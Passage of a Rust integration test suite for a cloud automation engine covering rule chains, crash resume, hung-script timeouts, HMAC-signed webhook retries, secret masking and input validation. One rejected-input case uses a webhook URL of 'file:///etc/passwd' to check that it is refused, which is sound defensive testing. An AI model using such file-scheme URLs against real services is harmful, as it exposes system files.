//! Chains of actions: resuming after a crash between steps, step timeouts with hung scripts,
//! signed and retried webhooks, schedules, secrets kept out of every answer, the agent's reach, and
//! bad rules and scripts refused with nothing stored.

use crate::fixtures::{application, group, layer, running};
use scaleinfra_tests::*;
use serde_json::{Value, json};

/// A tenant whose application of one tiny appliance is deployed and running, with a CloudScript:
/// (admin, application, script, appliance).
async fn world(app: &TestApp, slug: &str) -> (Session, String, String, String) {
    let op = app.operator().await;
    let t = app.tenant(&op, slug).await;
    let s = t.admin.clone();
    let project = app.project(&s, "P").await;
    let a = application(app, &s.token, &project, "A").await;
    let l = layer(app, &s.token, &a, "web").await;
    let tpl = crate::fixtures::template(app, &s, "Tiny", 1, 256).await;
    group(app, &s.token, &l, "web", &tpl, 1, 4).await;
    let script = crate::fixtures::script(app, &s.token).await;
    app.post(
        &s.token,
        &format!("/api/v1/applications/{a}/deploy"),
        json!({}),
    )
    .await
    .assert_status(202);
    let up = running(app, &s.token, &a, None, 1).await;
    (s, a, script, up[0]["id"].as_str().unwrap().to_owned())
}

async fn add_rule(app: &TestApp, token: &str, a: &str, body: Value) -> String {
    let r = app
        .post(token, &format!("/api/v1/applications/{a}/rules"), body)
        .await;
    r.assert_status(201);
    r.body["id"].as_str().unwrap().to_owned()
}

/// A rule on a yearly schedule (the engine does not fire it during a test: the test does) whose
/// chain runs `script` on every appliance `steps` times; returns its id.
async fn yearly(app: &TestApp, token: &str, a: &str, script: &str, steps: usize) -> String {
    let chain: Vec<Value> = (0..steps).map(|_| run_on_all(script)).collect();
    add_rule(
        app,
        token,
        a,
        json!({"name": "yearly", "event_type": "schedule.fired",
            "schedule": "0 0 0 1 1 *", "steps": chain}),
    )
    .await
}

async fn jobs_of(app: &TestApp, token: &str, appliance: &str) -> Vec<Value> {
    app.get(
        token,
        &format!("/api/v1/appliances/{appliance}/jobs?limit=100"),
    )
    .await
    .body["items"]
        .as_array()
        .unwrap()
        .clone()
}

async fn faults(app: &TestApp, body: Value) {
    let op = app.operator().await;
    app.call(
        reqwest::Method::PUT,
        "/api/v1/sim/faults",
        Some(&op.token),
        Some(body),
    )
    .await
    .assert_status(200);
}

/// Record `rule`'s `schedule.fired` event in application `a` (the engine dispatches it).
async fn record_fired(app: &TestApp, tenant: &str, a: &str, rule: &str) {
    let detail = json!({ "rule_id": rule }).to_string();
    let (tid, aid) = (
        tenant.parse::<common::TenantId>().unwrap(),
        a.parse::<common::ApplicationId>().unwrap(),
    );
    app.store
        .write(move |c| {
            let subject = store::repo::events::Subject {
                application: Some(aid),
                ..Default::default()
            };
            store::repo::events::record(c, tid, "schedule.fired", &subject, &detail)
        })
        .await
        .unwrap();
}

#[tokio::test]
async fn schedules_fire_when_due_and_never_more_than_once_a_minute() {
    let app = TestApp::spawn().await;
    let (s, a, script, _appliance) = world(&app, "cadence").await;
    for too_often in ["* * * * * *", "0,30 * * * * *", "* * * 1 * *"] {
        let r = app
            .post(
                &s.token,
                &format!("/api/v1/applications/{a}/rules"),
                json!({"name": "busy", "event_type": "schedule.fired",
                    "schedule": too_often, "steps": [run_on_all(&script)]}),
            )
            .await;
        r.assert_status(422);
        assert_eq!(r.body["errors"][0]["field"], "schedule", "{}", r.text);
        assert!(
            r.text.contains("more often than once every 60 seconds"),
            "{}",
            r.text
        );
    }
    // a yearly schedule, so the engine does not fire it during the test: this test does
    let rule = yearly(&app, &s.token, &a, &script, 1).await;
    let (tid, rid) = (
        s.tenant_id.parse::<common::TenantId>().unwrap(),
        rule.parse::<common::RuleId>().unwrap(),
    );
    let (first, again) = app
        .store
        .write(move |c| -> Result<(usize, usize), store::StoreError> {
            use orchestrator::automation::engine::fire_schedules;
            let at = store::time::now();
            // it last fired more than a year ago: due
            store::repo::unscoped::automation::set_fired(c, rid, at - chrono::Duration::days(400))?;
            let first = fire_schedules(c, at)?;
            // a schedule stored before the interval was enforced (written past the API) does not
            // fire again within the same minute; it is put back before the engine sees it
            let mut r = store::repo::rules::get(c, tid, rid)?.unwrap();
            let yearly = r.schedule.replace("* * * * * *".into());
            store::repo::rules::save(c, &r)?;
            let again = fire_schedules(c, at)?;
            r.schedule = yearly;
            store::repo::rules::save(c, &r)?;
            Ok((first, again))
        })
        .await
        .unwrap();
    assert_eq!(first, 1, "due: it fires");
    assert_eq!(again, 0, "fired this minute: not again");
    let events = app
        .get(
            &s.token,
            &format!("/api/v1/applications/{a}/events?limit=100"),
        )
        .await;
    let fired = events.body["items"]
        .as_array()
        .map(|e| e.iter().filter(|e| e["type"] == "schedule.fired").count());
    assert_eq!(fired, Some(1), "{}", events.text);
}

/// A pending run of `rule` for a new, dispatched event of `event_type`, due tomorrow (so the engine
/// leaves it alone during a test): the run's and the event's ids.
fn queue_run(
    c: &mut store::DbConn,
    rule: &store::Rule,
    event_type: &str,
) -> Result<(common::RunId, common::EventId), store::StoreError> {
    let subject = store::repo::events::Subject {
        application: Some(rule.application_id),
        ..Default::default()
    };
    let e = store::repo::events::record(c, rule.tenant_id, event_type, &subject, "{}")?;
    store::repo::unscoped::automation::mark_dispatched(c, &[e.id])?;
    let later = store::time::now() + chrono::Duration::days(1);
    let run = store::Run {
        id: common::RunId::new(),
        tenant_id: rule.tenant_id,
        application_id: rule.application_id,
        rule_id: rule.id,
        event_id: e.id,
        event_type: e.type_.clone(),
        appliance_id: None,
        status: common::api::RunStatus::Pending,
        step: 0,
        steps: rule
            .steps
            .iter()
            .map(|_| common::api::StepRun::pending())
            .collect(),
        chain: rule.steps.clone(),
        next_at: later,
        created_at: later,
        updated_at: later,
        finished_at: None,
    };
    assert!(store::repo::unscoped::automation::insert_run(c, &run)?);
    Ok((run.id, e.id))
}

#[tokio::test]
async fn an_application_with_too_many_open_runs_stores_the_next_ones_as_not_run() {
    use orchestrator::automation::engine::MAX_OPEN_RUNS;
    let app = TestApp::spawn().await;
    let (s, a, script, _appliance) = world(&app, "flood").await;
    let rule = yearly(&app, &s.token, &a, &script, 2).await;
    // the application's queue is full: runs due tomorrow (so none moves on during the test)
    let (tid, rid) = (
        s.tenant_id.parse::<common::TenantId>().unwrap(),
        rule.parse::<common::RuleId>().unwrap(),
    );
    app.store
        .write(move |c| -> Result<(), store::StoreError> {
            let rule = store::repo::rules::get(c, tid, rid)?.unwrap();
            for _ in 0..MAX_OPEN_RUNS {
                queue_run(c, &rule, "custom.queued")?;
            }
            Ok(())
        })
        .await
        .unwrap();
    record_fired(&app, &s.tenant_id, &a, &rule).await;
    let refused = app
        .eventually(30, "the event's run is stored", || async {
            let r = app
                .get(&s.token, &format!("/api/v1/rules/{rule}/runs?limit=10"))
                .await;
            r.body["items"]
                .as_array()?
                .iter()
                .find(|run| run["event_type"] == "schedule.fired")
                .cloned()
        })
        .await;
    assert_eq!(refused["status"], "failed", "{refused}");
    assert_eq!(refused["steps"][0]["status"], "skipped");
    assert_eq!(refused["steps"][1]["status"], "skipped");
    assert!(
        refused["steps"][0]["output"]
            .as_str()
            .unwrap()
            .contains(&format!("{MAX_OPEN_RUNS} runs open")),
        "{refused}"
    );
    assert!(
        refused["steps"][0]["jobs"].as_array().unwrap().is_empty(),
        "nothing ran"
    );
}

#[tokio::test]
async fn pruning_deletes_ended_history_and_keeps_what_open_runs_need() {
    let app = TestApp::spawn().await;
    let (s, a, script, appliance) = world(&app, "prune").await;
    let rule = yearly(&app, &s.token, &a, &script, 2).await;
    // an ended run with its job
    record_fired(&app, &s.tenant_id, &a, &rule).await;
    let ended = app
        .eventually(60, "the run ended", || async {
            let r = app
                .get(&s.token, &format!("/api/v1/rules/{rule}/runs?limit=10"))
                .await;
            let run = r.body["items"].as_array()?.first()?.clone();
            (run["status"] == "succeeded").then_some(run)
        })
        .await;
    let job = ended["steps"][0]["jobs"][0].as_str().unwrap().to_owned();
    app.get(&s.token, &format!("/api/v1/jobs/{job}"))
        .await
        .assert_status(200);
    // an open run (due tomorrow), and its event
    let (tid, rid) = (
        s.tenant_id.parse::<common::TenantId>().unwrap(),
        rule.parse::<common::RuleId>().unwrap(),
    );
    let (open, open_event) = app
        .store
        .write(
            move |c| -> Result<(common::RunId, common::EventId), store::StoreError> {
                let rule = store::repo::rules::get(c, tid, rid)?.unwrap();
                queue_run(c, &rule, "custom.open")
            },
        )
        .await
        .unwrap();
    let before = jobs_of(&app, &s.token, &appliance).await;
    let install = before.iter().filter(|j| j["purpose"] == "install").count();
    // everything is older than a retention ending tomorrow; one row of each kind per batch
    let mut rounds = Vec::new();
    loop {
        let p = app
            .store
            .write(move |c| {
                store::repo::unscoped::automation::prune(
                    c,
                    store::time::now() + chrono::Duration::days(1),
                    1,
                )
            })
            .await
            .unwrap();
        assert!(p.jobs <= 1 && p.runs <= 1 && p.events <= 1, "{p:?}");
        if p == store::repo::unscoped::automation::Pruned::default() {
            break;
        }
        rounds.push(p);
    }
    let total = rounds.iter().fold((0, 0, 0), |t, p| {
        (t.0 + p.jobs, t.1 + p.runs, t.2 + p.events)
    });
    // the run's two jobs go, even though each batch takes one job and one run
    assert_eq!(total.0, before.len() - install, "{total:?}");
    assert!(total.0 >= 2, "{total:?}");
    assert_eq!(total.1, 1, "the ended run only");
    assert!(total.2 >= 1, "{total:?}");
    app.get(
        &s.token,
        &format!("/api/v1/runs/{}", ended["id"].as_str().unwrap()),
    )
    .await
    .assert_status(404);
    app.get(&s.token, &format!("/api/v1/jobs/{job}"))
        .await
        .assert_status(404);
    // install jobs stay: they are the appliance's install progress
    let after = jobs_of(&app, &s.token, &appliance).await;
    assert_eq!(after.len(), install);
    assert!(after.iter().all(|j| j["purpose"] == "install"));
    app.get(&s.token, &format!("/api/v1/runs/{open}"))
        .await
        .assert_status(200);
    let events = app
        .get(
            &s.token,
            &format!("/api/v1/applications/{a}/events?limit=100"),
        )
        .await;
    let ids: Vec<&str> = events.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["id"].as_str())
        .collect();
    assert_eq!(
        ids,
        vec![open_event.to_string().as_str()],
        "only the open run's event is kept"
    );
}

fn run_on_all(script: &str) -> Value {
    json!({"action": {"type": "run_script", "script_id": script, "target": {"kind": "all"}}})
}

#[tokio::test]
async fn a_run_cut_off_between_two_steps_resumes_at_the_second() {
    let app = TestApp::spawn().await;
    let (s, a, script, appliance) = world(&app, "resume").await;
    // a schedule that fires once a year: this test makes its run by hand
    let rule = add_rule(
        &app,
        &s.token,
        &a,
        json!({"name": "two steps", "event_type": "schedule.fired",
        "schedule": "0 0 0 1 1 *", "steps": [run_on_all(&script), run_on_all(&script)]}),
    )
    .await;
    let before = jobs_of(&app, &s.token, &appliance).await.len();
    // the state a crash right after the first step's end leaves: step 0 done with its job, step 1
    // pending, the run still running
    let (tid, aid, rid) = (
        s.tenant_id.parse::<common::TenantId>().unwrap(),
        a.parse::<common::ApplicationId>().unwrap(),
        rule.parse::<common::RuleId>().unwrap(),
    );
    let run_id = app
        .store
        .write(move |c| -> Result<common::RunId, store::StoreError> {
            let rule = store::repo::rules::get(c, tid, rid)?.unwrap();
            let event = store::repo::events::record(
                c,
                tid,
                "schedule.fired",
                &store::repo::events::Subject {
                    application: Some(aid),
                    ..Default::default()
                },
                "{}",
            )?;
            store::repo::unscoped::automation::mark_dispatched(c, &[event.id])?;
            let at = store::time::now();
            let mut done = common::api::StepRun::pending();
            done.status = common::api::StepStatus::Succeeded;
            done.attempts = 1;
            done.started_at = Some(at);
            done.finished_at = Some(at);
            done.output = "done before the crash".into();
            let run = store::Run {
                id: common::RunId::new(),
                tenant_id: tid,
                application_id: aid,
                rule_id: rid,
                event_id: event.id,
                event_type: event.type_.clone(),
                appliance_id: None,
                status: common::api::RunStatus::Running,
                step: 1,
                steps: vec![done, common::api::StepRun::pending()],
                chain: rule.steps.clone(),
                next_at: at,
                created_at: at,
                updated_at: at,
                finished_at: None,
            };
            store::repo::unscoped::automation::insert_run(c, &run)?;
            Ok(run.id)
        })
        .await
        .unwrap();
    let run = app
        .eventually(30, "the resumed run ended", || async {
            let r = app.get(&s.token, &format!("/api/v1/runs/{run_id}")).await;
            (r.body["status"] == "succeeded").then_some(r.body)
        })
        .await;
    assert_eq!(
        run["steps"][0]["output"], "done before the crash",
        "step 0 was not run again"
    );
    assert_eq!(run["steps"][0]["attempts"], 1);
    assert_eq!(run["steps"][1]["status"], "succeeded");
    assert_eq!(run["steps"][1]["jobs"].as_array().unwrap().len(), 1);
    assert_eq!(
        jobs_of(&app, &s.token, &appliance).await.len(),
        before + 1,
        "only the second step made a job"
    );
}

#[tokio::test]
async fn a_hung_script_times_its_step_out_and_the_chain_stops() {
    let app = TestApp::spawn().await;
    let (s, a, script, appliance) = world(&app, "hung").await;
    faults(
        &app,
        json!({"fail_boots": false, "hang_scripts": true, "slow": 1.0}),
    )
    .await;
    let mut first = run_on_all(&script);
    first["timeout_secs"] = json!(1);
    let rule = add_rule(
        &app,
        &s.token,
        &a,
        json!({"name": "hangs", "event_type": "appliance.came_alive",
        "steps": [first, run_on_all(&script)]}),
    )
    .await;
    // a second appliance comes alive: the rule fires for it
    app.call(
        reqwest::Method::PUT,
        &format!(
            "/api/v1/groups/{}/desired",
            app.get(&s.token, &format!("/api/v1/applications/{a}"))
                .await
                .body["layers"][0]["groups"][0]["id"]
                .as_str()
                .unwrap()
        ),
        Some(&s.token),
        Some(json!({"desired": 2})),
    )
    .await
    .assert_status(202);
    let run = crate::fixtures::ended_run(&app, &s.token, &rule).await;
    assert_eq!(run["status"], "failed", "{run}");
    assert!(
        run["steps"][0]["output"]
            .as_str()
            .unwrap()
            .starts_with("timed out after 1 s"),
        "{run}"
    );
    assert_eq!(run["steps"][1]["status"], "skipped");
    let jobs = jobs_of(&app, &s.token, &appliance).await;
    assert!(
        jobs.iter().any(|j| j["status"] == "cancelled"),
        "the hung job was cancelled: {jobs:?}"
    );
}

#[tokio::test]
async fn webhooks_are_signed_retried_and_their_secret_never_shown() {
    use std::sync::{Arc, Mutex};
    let app = TestApp::spawn().await;
    let got: Arc<Mutex<Vec<(String, String, String)>>> = Arc::default();
    let seen = got.clone();
    let server = actix_web::HttpServer::new(move || {
        let seen = seen.clone();
        actix_web::App::new().default_service(actix_web::web::to(
            move |req: actix_web::HttpRequest, body: actix_web::web::Bytes| {
                let seen = seen.clone();
                async move {
                    let h = |n: &str| {
                        req.headers()
                            .get(n)
                            .and_then(|v| v.to_str().ok())
                            .unwrap_or_default()
                            .to_owned()
                    };
                    let mut all = seen.lock().unwrap();
                    all.push((
                        h("x-scaleinfra-signature"),
                        h("x-scaleinfra-delivery"),
                        String::from_utf8_lossy(&body).into_owned(),
                    ));
                    // the first delivery fails: the step is retried
                    if all.len() == 1 {
                        actix_web::HttpResponse::InternalServerError().finish()
                    } else {
                        actix_web::HttpResponse::Ok().finish()
                    }
                }
            },
        ))
    })
    .workers(1)
    .bind("127.0.0.1:0")
    .unwrap();
    let addr = server.addrs()[0];
    let running_server = server.run();
    let handle = running_server.handle();
    tokio::spawn(running_server);

    let (s, a, _script, _appliance) = world(&app, "hooks").await;
    // a schedule that fires once a year: its firing is recorded by hand below
    let rule = add_rule(&app, &s.token, &a, json!({"name": "hook", "event_type": "schedule.fired",
        "schedule": "0 0 0 1 1 *",
        "steps": [{"action": {"type": "webhook", "url": format!("http://{addr}/hook"), "secret": "s3cret-k3y"},
            "retries": 2}]})).await;
    record_fired(&app, &s.tenant_id, &a, &rule).await;
    let r = app.get(&s.token, &format!("/api/v1/rules/{rule}")).await;
    assert_eq!(r.body["steps"][0]["action"]["secret"], "********");
    assert!(!r.text.contains("s3cret-k3y"));
    // the one run: its delivery met the 500, then its retry went through
    let run = app
        .eventually(30, "the first run ended", || async {
            let r = app
                .get(&s.token, &format!("/api/v1/rules/{rule}/runs?limit=100"))
                .await;
            let first = r.body["items"].as_array()?.last()?.clone();
            matches!(first["status"].as_str(), Some("succeeded" | "failed")).then_some(first)
        })
        .await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["steps"][0]["attempts"], 2, "one retry after the 500");
    // stop the schedule; sending the masked secret back keeps it
    let steps = r.body["steps"].clone();
    app.patch(
        &s.token,
        &format!("/api/v1/rules/{rule}"),
        json!({"enabled": false, "steps": steps}),
    )
    .await
    .assert_status(200);
    let stored = app
        .store
        .read({
            let (tid, rid) = (
                s.tenant_id.parse::<common::TenantId>().unwrap(),
                rule.parse::<common::RuleId>().unwrap(),
            );
            move |c| store::repo::rules::get(c, tid, rid)
        })
        .await
        .unwrap()
        .unwrap();
    assert!(matches!(&stored.steps[0].action,
        common::api::Action::Webhook { secret: Some(k), .. } if k == "s3cret-k3y"));
    let all = got.lock().unwrap().clone();
    assert!(all.len() >= 2);
    for (signature, delivery, body) in &all[..2] {
        assert_eq!(
            *signature,
            orchestrator::automation::webhook::signature("s3cret-k3y", body),
            "signed with HMAC-SHA256 of the body"
        );
        assert!(delivery.starts_with(run["id"].as_str().unwrap()));
        let v: Value = serde_json::from_str(body).unwrap();
        assert_eq!(v["rule_id"], json!(rule));
        assert_eq!(v["event"]["type"], "schedule.fired");
    }
    assert_eq!(
        all[0].1, all[1].1,
        "a retry is the same delivery: one id a receiver deduplicates on"
    );
    handle.stop(true).await;
}

#[tokio::test]
async fn secrets_stay_out_of_answers_and_stored_output() {
    let app = TestApp::spawn().await;
    let (s, _a, _script, appliance) = world(&app, "secrets").await;
    let r = app
        .post(&s.token, "/api/v1/cloudscripts", json!({
            "name": "db-login",
            "body": "#!/bin/sh\nmysql -u app -p'{{ vars.password }}' -e 'select 1'\n",
            "variables": [{"name": "password", "type": "string", "required": true, "secret": true}]
        }))
        .await;
    r.assert_status(201);
    let id = r.body["id"].as_str().unwrap().to_owned();
    let secret = "Corr3ct-Horse-Battery";
    let preview = app
        .post(
            &s.token,
            &format!("/api/v1/cloudscripts/{id}/render"),
            json!({"appliance_id": appliance, "variables": {"password": secret}}),
        )
        .await;
    preview.assert_status(200);
    assert!(!preview.text.contains(secret), "{}", preview.text);
    assert!(
        preview.body["script"]
            .as_str()
            .unwrap()
            .contains("-p'********'")
    );
    assert_eq!(preview.body["env"]["PASSWORD"], "********");

    // a rule's value for a secret variable is never shown again; sending the mask back keeps it.
    // Made disabled: the appliance's came_alive may not be dispatched yet, and a run of this rule
    // would queue a job ahead of the one this test pulls
    let r = app
        .post(
            &s.token,
            &format!("/api/v1/applications/{_a}/rules"),
            json!({
            "name": "login", "event_type": "appliance.came_alive", "enabled": false,
            "steps": [{"action": {"type": "run_script", "script_id": id, "target": {"kind": "all"},
                "variables": {"password": secret}}}]}),
        )
        .await;
    r.assert_status(201);
    assert!(!r.text.contains(secret), "{}", r.text);
    assert_eq!(
        r.body["steps"][0]["action"]["variables"]["password"],
        "********"
    );
    let rule = r.body["id"].as_str().unwrap().to_owned();
    let steps = r.body["steps"].clone();
    // a mask that cannot be resolved is refused, never stored as the value: a new rule, or a step
    // that moved (its secret belongs to the step it was given for)
    let masked = json!({"name": "login 2", "event_type": "appliance.came_alive", "enabled": false,
        "steps": steps.clone()});
    let r = app
        .post(
            &s.token,
            &format!("/api/v1/applications/{_a}/rules"),
            masked,
        )
        .await;
    r.assert_status(422);
    assert_eq!(
        r.body["errors"][0]["field"],
        "steps[0].action.variables.password"
    );
    let moved = json!([{"action": {"type": "scale", "group": "web", "by": 0}}, steps[0].clone()]);
    let r = app
        .patch(
            &s.token,
            &format!("/api/v1/rules/{rule}"),
            json!({"steps": moved}),
        )
        .await;
    r.assert_status(422);
    assert_eq!(
        r.body["errors"][0]["field"],
        "steps[1].action.variables.password"
    );
    let r = app
        .patch(
            &s.token,
            &format!("/api/v1/rules/{rule}"),
            json!({"steps": steps, "enabled": false}),
        )
        .await;
    r.assert_status(200);
    let (tid, rid) = (
        s.tenant_id.parse::<common::TenantId>().unwrap(),
        rule.parse::<common::RuleId>().unwrap(),
    );
    let stored = app
        .store
        .read(move |c| store::repo::rules::get(c, tid, rid))
        .await
        .unwrap()
        .unwrap();
    assert!(matches!(&stored.steps[0].action,
        common::api::Action::RunScript { variables, .. } if variables["password"] == secret));

    // the agent takes the job but its script hangs; then it reports output that echoes the secret
    faults(
        &app,
        json!({"fail_boots": false, "hang_scripts": true, "slow": 1.0}),
    )
    .await;
    let run = app
        .post(
            &s.token,
            &format!("/api/v1/cloudscripts/{id}/run"),
            json!({"appliance_ids": [appliance], "variables": {"password": secret}}),
        )
        .await;
    run.assert_status(202);
    assert!(!run.text.contains(secret));
    let job = run.body[0]["id"].as_str().unwrap().to_owned();
    let token = app.state.agent.key.issue(appliance.parse().unwrap());
    let pulled = app
        .eventually(10, "the job is handed to an agent", || async {
            let r = app
                .raw(
                    app.client
                        .get(app.url("/agent/v1/jobs"))
                        .bearer_auth(&token),
                )
                .await;
            eprintln!(
                "pulled: {} {}",
                r.status,
                r.text.chars().take(400).collect::<String>()
            );
            r.body["jobs"]
                .as_array()?
                .iter()
                .find(|j| j["id"] == job.as_str())
                .cloned()
        })
        .await;
    assert!(
        pulled["script"].as_str().unwrap().contains(secret),
        "the agent gets it in clear"
    );
    assert_eq!(pulled["env"]["PASSWORD"], secret);
    let report = |token: &str, job: &str| {
        app.client
            .post(app.url(&format!("/agent/v1/jobs/{job}/result")))
            .bearer_auth(token)
            .json(
                &json!({"exit_code": 0, "stdout": format!("connected with {secret}\n"),
                "stderr": "", "duration_ms": 12}),
            )
    };
    // another appliance's agent cannot report it
    let other = app.state.agent.key.issue(common::ApplianceId::new());
    let r = app.raw(report(&other, &job)).await;
    assert!(
        matches!(r.status.as_u16(), 401 | 404),
        "{} {}",
        r.status,
        r.text
    );
    app.raw(report(&token, &job)).await.assert_status(204);
    let j = app.get(&s.token, &format!("/api/v1/jobs/{job}")).await;
    assert_eq!(j.body["status"], "succeeded");
    assert_eq!(j.body["stdout"], "connected with ********\n");
    assert!(!j.text.contains(secret));
    // nothing of the secret is stored once the job ended
    let jid: common::JobId = job.parse().unwrap();
    let aid: common::ApplianceId = appliance.parse().unwrap();
    let row = app
        .store
        .read(move |c| store::repo::unscoped::automation::job_of(c, aid, jid))
        .await
        .unwrap()
        .unwrap();
    assert!(
        row.body.is_empty() && row.env.is_empty() && row.secrets.is_empty(),
        "{row:?}"
    );
    assert!(!row.stdout.contains(secret) && !row.shown.contains(secret));

    // a later version that no longer declares the variable secret does not show the value given
    // while it was
    app.post(
        &s.token,
        &format!("/api/v1/cloudscripts/{id}/versions"),
        json!({"body": "#!/bin/sh\nmysql -u app -p'{{ vars.password }}' -e 'select 1'\n",
            "variables": [{"name": "password", "type": "string", "required": true}]}),
    )
    .await
    .assert_status(201);
    let r = app.get(&s.token, &format!("/api/v1/rules/{rule}")).await;
    r.assert_status(200);
    assert!(!r.text.contains(secret), "{}", r.text);
    assert_eq!(
        r.body["steps"][0]["action"]["variables"]["password"],
        "********"
    );
}

#[tokio::test]
async fn bad_scripts_and_rules_are_refused_and_nothing_is_stored() {
    let app = TestApp::spawn().await;
    let (s, a, script, _appliance) = world(&app, "picky").await;
    let scripts_before = app
        .get(&s.token, "/api/v1/cloudscripts?limit=100")
        .await
        .body["items"]
        .as_array()
        .unwrap()
        .len();
    let table = [
        (
            json!({"name": "bad1", "body": "#!/bin/sh\necho ok\necho {{ vars.nope }}\n"}),
            "body",
            "line 3",
        ),
        (
            json!({"name": "bad2", "body": "#!/bin/sh\n{% for x in %}\n"}),
            "body",
            "line 2",
        ),
        (
            json!({"name": "bad3", "body": "echo {{ hostname }}"}),
            "body",
            "unknown variable hostname",
        ),
        (
            json!({"name": "bad4", "body": "x", "variables": [{"name": "port", "type": "int", "default": "80"}]}),
            "variables",
            "not a int",
        ),
        (
            json!({"name": "bad5", "body": "x".repeat(300 * 1024)}),
            "body",
            "1 to 262144 bytes",
        ),
    ];
    for (body, field, message) in table {
        let r = app.post(&s.token, "/api/v1/cloudscripts", body).await;
        r.assert_status(422);
        let errors: Vec<(String, String)> = r.body["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                (
                    e["field"].as_str().unwrap().to_owned(),
                    e["message"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        assert!(
            errors
                .iter()
                .any(|(f, m)| f.starts_with(field) && m.contains(message)),
            "{field} {message}: {errors:?}"
        );
    }
    // a tenant script may not take a library script's name (installs and defaults use the library's)
    let r = app
        .post(
            &s.token,
            "/api/v1/cloudscripts",
            json!({"name": "haproxy-add-app-servers", "body": "echo"}),
        )
        .await;
    r.assert_problem(409, "conflict");
    // a body past what any script save may carry is refused before it is read
    let huge = app
        .post(
            &s.token,
            "/api/v1/cloudscripts",
            json!({"name": "huge", "body": "x".repeat(5 << 20)}),
        )
        .await;
    huge.assert_status(413);
    let scripts_after = app
        .get(&s.token, "/api/v1/cloudscripts?limit=100")
        .await
        .body["items"]
        .as_array()
        .unwrap()
        .len();
    assert_eq!(scripts_before, scripts_after, "no script was stored");

    let step = |extra: Value| {
        let mut s = json!({"type": "run_script", "script_id": script, "target": {"kind": "all"}});
        for (k, v) in extra.as_object().unwrap() {
            s[k] = v.clone();
        }
        json!([{"action": s}])
    };
    let rules = [
        (
            json!({"event_type": "appliance.exploded", "steps": step(json!({}))}),
            "event_type",
        ),
        (
            json!({"event_type": "appliance.came_alive", "steps": step(json!({"version": 7}))}),
            "steps[0].action.version",
        ),
        (
            json!({"event_type": "appliance.came_alive", "steps": step(json!({"variables": {"greeting": 5}}))}),
            "steps[0].action.variables.greeting",
        ),
        (
            json!({"event_type": "appliance.came_alive", "steps": step(json!({"variables": {"colour": "red"}}))}),
            "steps[0].action.variables.colour",
        ),
        (
            json!({"event_type": "appliance.came_alive",
            "steps": step(json!({"variables": {"greeting": "{{ layer('nope').ips }} {{ oops }}"}}))}),
            "steps[0].action.variables.greeting",
        ),
        (
            json!({"event_type": "appliance.came_alive", "steps": step(json!({"script_id": uuid::Uuid::now_v7()}))}),
            "steps[0].action.script_id",
        ),
        (
            json!({"event_type": "schedule.fired", "schedule": "0 0 0 30 2 *", "steps": step(json!({}))}),
            "schedule",
        ),
        (
            json!({"event_type": "schedule.fired", "steps": step(json!({}))}),
            "schedule",
        ),
        (
            json!({"event_type": "schedule.fired", "schedule": "0-9 * * * * *", "steps": step(json!({}))}),
            "schedule",
        ),
        (
            json!({"event_type": "metric.threshold", "steps": step(json!({}))}),
            "condition",
        ),
        (
            json!({"event_type": "appliance.came_alive",
            "steps": [{"action": {"type": "scale", "group": "nope", "by": 1}}]}),
            "steps[0].action.group",
        ),
        (
            json!({"event_type": "appliance.came_alive",
            "steps": [{"action": {"type": "webhook", "url": "file:///etc/passwd"}}]}),
            "steps[0].action.url",
        ),
        (
            json!({"event_type": "appliance.came_alive", "steps": []}),
            "steps",
        ),
    ];
    for (mut body, field) in rules {
        body["name"] = json!("bad");
        let r = app
            .post(
                &s.token,
                &format!("/api/v1/applications/{a}/rules"),
                body.clone(),
            )
            .await;
        r.assert_status(422);
        let errors = r.field_errors();
        assert!(
            errors.iter().any(|(f, _)| f == field),
            "{body}: {field} not in {errors:?}"
        );
    }
    let left = app
        .get(&s.token, &format!("/api/v1/applications/{a}/rules"))
        .await;
    assert_eq!(
        left.body["items"].as_array().unwrap().len(),
        0,
        "no rule was stored"
    );

    // a user of the tenant who is not assigned to the project sees none of it
    let rule = add_rule(
        &app,
        &s.token,
        &a,
        json!({"name": "ok", "event_type": "appliance.came_alive",
        "steps": step(json!({}))}),
    )
    .await;
    let stranger = app.user(&s, "user").await;
    for path in [
        format!("/api/v1/rules/{rule}"),
        format!("/api/v1/applications/{a}/rules"),
        format!("/api/v1/rules/{rule}/runs"),
        format!("/api/v1/applications/{a}/runs"),
    ] {
        app.get(&stranger.token, &path)
            .await
            .assert_problem(404, "not_found");
    }
}

#[tokio::test]
async fn a_metric_over_its_threshold_fires_its_rule_for_the_appliance() {
    let app = TestApp::spawn().await;
    let (s, a, script, appliance) = world(&app, "metrics").await;
    let rule = add_rule(
        &app,
        &s.token,
        &a,
        json!({"name": "hot", "event_type": "metric.threshold",
        "condition": {"metric": "cpu_pct", "aggregate": "avg", "window_secs": 2, "comparator": "gt",
            "threshold": 80.0, "for_secs": 1},
        "steps": [{"action": {"type": "run_script", "script_id": script,
            "target": {"kind": "event_appliance"}}}]}),
    )
    .await;
    let g = app
        .get(&s.token, &format!("/api/v1/applications/{a}"))
        .await;
    let group = g.body["layers"][0]["groups"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    // the simulated agents report cpu_pct = the group's load knob
    app.call(
        reqwest::Method::PUT,
        &format!("/api/v1/groups/{group}/load"),
        Some(&s.token),
        Some(json!({"load_pct": 95})),
    )
    .await
    .assert_status(204);
    let run = crate::fixtures::ended_run(&app, &s.token, &rule).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["event_type"], "metric.threshold");
    assert_eq!(run["appliance_id"], json!(appliance));
    let events = app
        .get(
            &s.token,
            &format!("/api/v1/applications/{a}/events?limit=200"),
        )
        .await;
    let e = events.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["type"] == "metric.threshold")
        .cloned()
        .unwrap();
    let detail: Value = serde_json::from_str(e["detail"].as_str().unwrap()).unwrap();
    assert_eq!(detail["rule_id"], json!(rule));
    assert!(detail["value"].as_f64().unwrap() > 80.0, "{detail}");
}

/// Post a custom event as the agent of `appliance` does (`scaleinfra-agent emit`), through the
/// agent's own client.
async fn emit(
    app: &TestApp,
    token: &str,
    name: &str,
    detail: &str,
) -> Result<common::agent::EventResponse, agent::client::EmitError> {
    let client = agent::client::Client::new(agent::identity::Identity {
        token: token.to_owned(),
        url: app.url("").trim_end_matches('/').to_owned(),
    });
    let req = common::agent::EventRequest {
        name: name.to_owned(),
        detail: detail.to_owned(),
    };
    tokio::task::spawn_blocking(move || client.emit(&req))
